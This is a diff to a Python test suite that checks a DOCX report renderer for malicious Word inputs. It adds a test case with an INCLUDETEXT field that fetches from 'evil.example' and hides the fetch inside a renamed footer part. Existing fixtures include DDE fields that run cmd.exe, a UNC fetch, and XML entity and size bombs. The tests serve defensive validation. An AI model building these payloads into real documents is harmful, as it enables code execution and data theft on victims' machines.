@@ -17,6 +17,7 @@ from tests.reports.samples import lines_of, meeting
 
 MAIN = "word/document.xml"
 RELATED = "word/_rels/document.xml.rels"
+TYPES = "[Content_Types].xml"
 
 
 def institution() -> bytes:
@@ -74,6 +75,13 @@ def test_the_report_stands_on_the_institutions_paper(lang: str) -> None:
     assert shown[start : start + len(expected)] == expected
     assert word.footnotes()
     assert word.tables()
+
+
+def test_the_direction_of_a_section_stands_before_its_gutter() -> None:
+    paper = replaced(MAIN, b"<w:docGrid", b"<w:rtlGutter/><w:docGrid")
+    word = Word(render_docx(meeting("ar"), Choices(letterhead=paper)))
+    setup = [each.tag.removeprefix(W) for each in word.body.find(f"{W}sectPr")]
+    assert setup[-3:] == ["bidi", "rtlGutter", "docGrid"]
 
 
 def test_nothing_of_the_old_letter_comes_along() -> None:
@@ -168,6 +176,14 @@ def field(instruction: str) -> bytes:
     return replaced("word/footer1.xml", b"</w:p>", f"{runs}</w:p>".encode())
 
 
+def renamed() -> bytes:
+    """A footer with a field that fetches, in a part whose name does not say what it is."""
+    parts = parts_of(field(' INCLUDETEXT "https://evil.example/x" '))
+    declared = {name: parts[name].replace(b"footer1.xml", b"footer1.dat") for name in (TYPES, RELATED)}
+    moved = {"word/footer1.xml": None, "word/footer1.dat": parts["word/footer1.xml"]}
+    return changed(institution(), **declared, **moved)
+
+
 def bomb() -> bytes:
     return changed(institution(), **{"word/media/x.xml": b"<a/>" + b" " * (rules.MOST_BYTES + 1)})
 
@@ -191,7 +207,6 @@ def locked() -> bytes:
 
 ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
 NOT_WORD, ACTIVE, OUTSIDE = "not a Word file", "macros", "outside"
-TYPES = "[Content_Types].xml"
 TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 ABUSES = {
     "nothing": (b" ", NOT_WORD),
@@ -234,6 +249,7 @@ ABUSES = {
     ),
     "a field with an address of a file": (headed(whole_field(' HYPERLINK "file:///c:/cmd.exe" ')), ACTIVE),
     "a field that fetches": (field(' INCLUDETEXT "\\\\\\\\evil\\\\x" '), ACTIVE),
+    "a field in a part by another name": (renamed(), NOT_WORD),
     "a field that runs": (field(" D D E AUTO c:\\cmd.exe "), ACTIVE),
     "entities": (replaced(MAIN, b"<w:document", ENTITIES + b"<w:document"), NOT_WORD),
     "entities in UTF-16": (
